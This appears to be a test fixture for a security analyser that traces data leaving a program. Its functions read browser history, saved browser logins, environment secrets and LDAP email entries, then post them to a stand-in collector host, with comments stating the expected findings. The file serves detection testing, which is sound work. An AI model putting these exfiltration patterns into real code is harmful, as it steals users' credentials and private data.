"""Databases: what is read from them, what is put into remote ones."""
import os
import shelve
import sqlite3

import asyncpg
import ldap3
import pandas
import psycopg2
import pymongo
import requests
import sqlalchemy
import sqlalchemy.orm

U = "https://collector.example/u"


def browser_history():
    db = sqlite3.connect("/home/me/History")  #~ capability(DATABASE), capability(FILES)
    for row in db.execute("select url from urls"):  #~ source(DATABASE) f1
        requests.post(U, data=row[0])  #~ sink(egress.http) f1, finding(traced) f1


def browser_logins():
    cursor = sqlite3.connect("/home/me/Login Data").cursor()
    cursor.execute("select * from logins")
    requests.post(U, data=cursor.fetchall())  #~ source(DATABASE) f2, sink(egress.http) f2, finding(traced) f2


def put_and_taken():
    db = sqlite3.connect("/tmp/own.db")
    cursor = db.cursor()
    cursor.execute("insert into t values (?)", (os.getenv("T"),))  #~ source(ENVIRONMENT) f3
    requests.post(U, data=open("/tmp/own.db", "a+b").read())  #~ sink(egress.http) f3, finding(traced) f3


def local_only():
    db = sqlite3.connect("/tmp/private.db")  #~ ok
    cursor = db.cursor()  #~ ok
    cursor.execute("insert into t values (1)")  #~ ok
    requests.post(U, data={"none": cursor.fetchall() == []})  #~ ok
    db.token = os.getenv("T")
    requests.post(U, data=str(db.commit()))  #~ ok


def remote_put():
    db = psycopg2.connect(host="pg.collector.example")  #~ capability(DATABASE), capability(NETWORK), endpoint("pg.collector.example")
    cursor = db.cursor()
    cursor.execute("insert into t values (%s)", (os.getenv("T"),))  #~ source(ENVIRONMENT) f5, sink(egress.cloud) f5, finding(traced) f5


def remote_taken():
    cursor = psycopg2.connect(host="pg.collector.example").cursor()
    cursor.execute("select 1")
    requests.post(U, data=cursor.fetchall())  #~ source(DATABASE) f6, sink(egress.http) f6, finding(traced) f6


def remote_untyped(cursor):
    requests.post(U, data=cursor.fetchall())  #~ source(DATABASE) f7, sink(egress.http) f7, finding(traced) f7, capability(DATABASE), capability(NETWORK)


def remote_constants(other):
    cursor = psycopg2.connect(host="pg.collector.example").cursor()  #~ ok
    cursor.execute("insert into t values (1)")  #~ ok
    requests.post(U, data={"none": cursor.fetchall() == []})  #~ ok
    requests.post(U, data={"none": other.fetchall() == []})  #~ ok


def engine_put():
    engine = sqlalchemy.create_engine("postgresql://sa.collector.example/d")  #~ capability(DATABASE), endpoint("postgresql://sa.collector.example/d")
    connection = engine.connect()
    connection.execute(sqlalchemy.text("insert into t values ('" + os.getenv("T") + "')"))  #~ source(ENVIRONMENT) f9, sink(egress.cloud) f9, finding(traced) f9


def engine_taken():
    engine = sqlalchemy.create_engine("postgresql://sa.collector.example/d")
    rows = engine.connect().execute("select 1")  #~ source(DATABASE) f10
    requests.post(U, data=list(rows))  #~ sink(egress.http) f10, finding(traced) f10


def session_taken():
    session = sqlalchemy.orm.Session(None)
    requests.post(U, data=session.query("t"))  #~ source(DATABASE) f11, sink(egress.http) f11, finding(traced) f11, capability(DATABASE), capability(NETWORK)


def session_put():
    session = sqlalchemy.orm.Session(None)
    session.add(os.getenv("T"))  #~ source(ENVIRONMENT) f12, sink(egress.cloud) f12, finding(traced) f12, capability(DATABASE), capability(ENVIRONMENT)


def engine_constants():
    engine = sqlalchemy.create_engine("postgresql://sa.collector.example/d")  #~ ok
    engine.connect().execute(sqlalchemy.text("select 1"))  #~ ok
    session = sqlalchemy.orm.Session(None)
    requests.post(U, data={"none": session.query("t") == []})  #~ ok
    session.add("ping")  #~ ok


def mongo_put():
    client = pymongo.MongoClient("mongo.collector.example")  #~ capability(DATABASE), capability(NETWORK), endpoint("mongo.collector.example")
    client.d.c.insert_one({"t": os.getenv("T")})  #~ source(ENVIRONMENT) f14, sink(egress.cloud) f14, finding(traced) f14


def mongo_taken():
    client = pymongo.MongoClient("mongo.collector.example")
    requests.post(U, data=client.d.c.find_one({}))  #~ source(DATABASE) f15, sink(egress.http) f15, finding(traced) f15


def mongo_constants():
    client = pymongo.MongoClient("mongo.collector.example")  #~ ok
    client.d.c.insert_one({"v": 1})  #~ ok
    requests.post(U, data={"none": client.d.c.find_one({}) == {}})  #~ ok


def mongo_untyped(items):
    requests.post(U, data=items.find_one({}))  #~ source(DATABASE) f17, sink(egress.http) f17, finding(traced) f17, capability(DATABASE)


async def async_put():
    db = await asyncpg.connect(host="asyncpg.collector.example")  #~ capability(DATABASE), capability(NETWORK), endpoint("asyncpg.collector.example")
    await db.execute("insert into t values ($1)", os.getenv("T"))  #~ source(ENVIRONMENT) f18, sink(egress.cloud) f18, finding(traced) f18


async def async_taken():
    db = await asyncpg.connect(host="asyncpg.collector.example")  #~ ok
    rows = await db.fetch("select 1")  #~ source(DATABASE) f19
    requests.post(U, data=rows)  #~ sink(egress.http) f19, finding(traced) f19
    await db.execute("select 1")  #~ ok


def key_value():
    d = shelve.open("/home/me/d")  #~ source(DATABASE) f20, capability(DATABASE), capability(FILES)
    requests.post(U, data=d["k"])  #~ sink(egress.http) f20, finding(traced) f20


def data_frame():
    rows = pandas.read_sql("select 1", None)  #~ source(DATABASE) f21, capability(DATABASE)
    requests.post(U, data=rows)  #~ sink(egress.http) f21, finding(traced) f21


def directory():
    c = ldap3.Connection("ldap.collector.example")
    c.search("dc=x", "(mail=*)")  #~ source(PERSONAL) f22, capability(DATABASE), capability(NETWORK)
    requests.post(U, data=c.entries)  #~ sink(egress.http) f22, finding(traced) f22


def other_compared():
    shelve.open("/home/me/d")  #~ ok
    requests.post(U, data={"none": pandas.read_sql("select 1", None) == ()})  #~ ok
    requests.post(U, data={"none": ldap3.Connection("x").search("dc=x", "(mail=*)") == ()})  #~ ok
